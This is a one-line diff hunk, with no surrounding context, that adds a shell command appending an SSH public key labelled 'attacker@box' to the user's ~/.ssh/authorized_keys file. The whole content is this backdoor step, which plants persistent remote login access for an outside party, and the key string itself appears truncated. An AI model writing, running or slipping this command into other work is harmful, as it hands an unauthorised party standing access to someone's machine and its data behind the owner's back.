@@ -1,0 +1,1 @@
+echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJk attacker@box' >> ~/.ssh/authorized_keys
